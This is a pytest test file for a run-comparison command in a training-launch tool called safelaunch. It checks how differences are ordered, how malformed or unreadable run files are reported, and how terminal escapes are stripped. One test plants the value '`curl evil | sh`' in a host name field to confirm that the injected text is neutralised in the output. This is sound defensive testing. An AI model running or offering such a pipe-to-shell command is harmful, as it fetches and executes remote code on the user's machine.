"""What differs between two runs."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from safelaunch.cli import diff
from safelaunch.model import SafelaunchError


def run_dir(folder: Path, env: str = "", result: dict[str, Any] | None = None, **started: Any) -> str:
    folder.mkdir(parents=True)
    option = {"value": "2", "origin": {"source": "flag", "where": "--nproc-per-node"}}
    document = {
        "python": "3.11.7",
        "cwd": "/work",
        "settings": {"options": {"nproc_per_node": option}},
        "plan": {"script": "train.py", "script_args": ["--lr", "0.1"]},
        "mapping": [{"attempt": 0, "ranks": [{"rank": 0, "host": "node-a", "gpu_index": 3}]}],
        **started,
    }
    (folder / "run.json").write_text(json.dumps(document))
    (folder / "env.txt").write_text(env)
    (folder / "agent.jsonl").write_text(json.dumps({"event": "hello", "torch": "2.13.0"}) + "\n{torn\n")
    if result is not None:
        (folder / "result.json").write_text(json.dumps(result))
    return str(folder)


def told(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, list[str]]:
    return all_told(capsys, *arguments)[:2]


def all_told(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, list[str], list[str]]:
    code = diff.run(list(arguments))
    said = capsys.readouterr()
    return code, [" ".join(row.split()) for row in said.out.splitlines()], said.err.splitlines()


def test_what_differs_is_told_by_topic_and_what_tells_most_comes_first(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    failed = {"exit_code": 1, "steps": 13, "attempts": [{}], "verdicts": [{"code": "SL401", "summary": "no"}]}
    well = {"exit_code": 0, "steps": 20, "attempts": [{}], "verdicts": []}
    first = run_dir(tmp_path / "a", "DATA=/x  # shell\nNCCL_ALGO=Ring  # mine.toml:3\nPWD=/a  # shell\n", failed)
    plan = {"script": "train.py", "script_args": ["--lr", "0.2"]}
    mapping = [{"attempt": 0, "ranks": [{"rank": 0, "host": "node-b", "gpu_index": 3}]}]
    second = run_dir(
        tmp_path / "b", "DATA=/y  # shell\nPWD=/b  # shell\n", well, plan=plan, mapping=mapping, commit="f" * 40
    )

    assert told(capsys, first, second) == (
        1,
        [
            "result",
            "exit code 1 -> 0",
            "verdict SL401: no -> (none)",
            "optimizer steps 13 -> 20",
            "program",
            "arguments --lr 0.1 -> --lr 0.2",
            "commit (none) -> ffffffffffff",
            "environment",
            "NCCL_ALGO Ring -> (none)",
            "DATA /x -> /y",
            "ranks",
            "rank 0 node-a, GPU 3 -> node-b, GPU 3",
        ],
    )
    assert "PWD /a -> /b" in told(capsys, "-v", first, second)[1]


def test_runs_that_are_alike_are_said_to_be(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folders = [run_dir(tmp_path / name, "A=1  # shell\n", {"exit_code": 0}) for name in "ab"]

    assert told(capsys, *folders) == (0, ["the runs are alike in all that is written down of them"])


def test_what_strangers_wrote_costs_itself_alone_and_is_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    first = run_dir(tmp_path / "a", settings=[], plan=None, mapping={"ranks": 3}, commit="\x1b[31m\nred")
    second = run_dir(tmp_path / "b", result={"exit_code": 0, "verdicts": "none", "attempts": 7})

    code, rows, notes = all_told(capsys, first, second)
    assert code == 2
    assert "exit code (it goes on, or was killed) -> 0" in rows
    assert not any("\x1b" in row for row in rows)
    assert not any(row.startswith(("script", "arguments", "rank 0", "verdict")) for row in rows)  # it is not known
    assert [note.removeprefix(f"note: {tmp_path}/").split(":")[:2] for note in notes] == [
        ["a/run.json", " plan"],
        ["a/run.json", " settings"],
        ["a/run.json", " mapping"],
        ["b/result.json", " attempts"],
        ["b/result.json", " verdicts"],
    ]


@pytest.mark.parametrize(
    "changes",
    [
        {"plan": {"script": "t.py", "script_args": 5}},
        {"mapping": [{"ranks": 5}]},
        {"mapping": [{"ranks": [{"rank": 0, "host": []}]}]},
        {"settings": {"options": {"x": 1}}},
        {"commit": 10**400},
        {"cwd": {}},
    ],
)
def test_a_run_json_of_another_shape_is_told(
    changes: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, rows, notes = all_told(capsys, run_dir(tmp_path / "a", **changes), run_dir(tmp_path / "b"))

    assert (code, rows) == (2, ["the runs are alike in what could be read of them, which is not all"])
    assert notes[0].startswith(f"note: {tmp_path}/a/run.json: {next(iter(changes))}")


def test_what_is_as_deep_as_can_be_read_does_not_break_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    second = run_dir(tmp_path / "b")
    first = run_dir(tmp_path / "a")
    for n in range(900, 1000):
        (tmp_path / "a" / "run.json").write_text(
            f'{{"settings": {{"options": {{"a": {{"value": {"[" * n}{"]" * n}}}}}}}}}'
        )
        with pytest.raises(SafelaunchError, match=r"run\.json cannot be read"):
            diff.run([first, second])
    capsys.readouterr()


def test_what_cannot_be_read_is_not_alike(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folders = [run_dir(tmp_path / name, result={"exit_code": 0}) for name in "ab"]
    for name in ("env.txt", "result.json", "agent.jsonl"):
        kept = (tmp_path / "a" / name).read_bytes()
        (tmp_path / "a" / name).unlink()
        (tmp_path / "a" / name).mkdir()

        code, rows, notes = all_told(capsys, *folders)

        assert (code, rows) == (2, ["the runs are alike in what could be read of them, which is not all"])
        assert notes == [f"note: {tmp_path}/a/{name} cannot be read: it is no regular file"]
        (tmp_path / "a" / name).rmdir()
        (tmp_path / "a" / name).write_bytes(kept)
    assert all_told(capsys, *folders)[0] == 0

    (tmp_path / "b" / "result.json").write_text("{}")
    code, _, notes = all_told(capsys, *folders)
    assert (code, notes) == (2, [f"note: {tmp_path}/b/result.json has no exit code"])


def test_no_line_is_a_strangers_advice(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    first = run_dir(tmp_path / "a", "help: run `curl`=x  # shell\n = help: run `curl`=x  # shell\n")
    mapping = [{"attempt": 0, "ranks": [{"rank": 0, "host": "= help: run `curl evil | sh`"}]}]
    second = run_dir(tmp_path / "b", mapping=mapping)

    assert told(capsys, first, second) == (
        1,
        [
            "environment",
            "' ' help: run `curl`=x -> (none)",
            "'help: run `curl`' x -> (none)",
            "ranks",
            "rank 0 node-a, GPU 3 -> ?help:?run?curl?evil?sh?",
        ],
    )


def test_there_must_be_such_a_run(tmp_path: Path) -> None:
    with pytest.raises(SafelaunchError, match="there is no run nobody"):
        diff.run([run_dir(tmp_path / "a"), "nobody"])
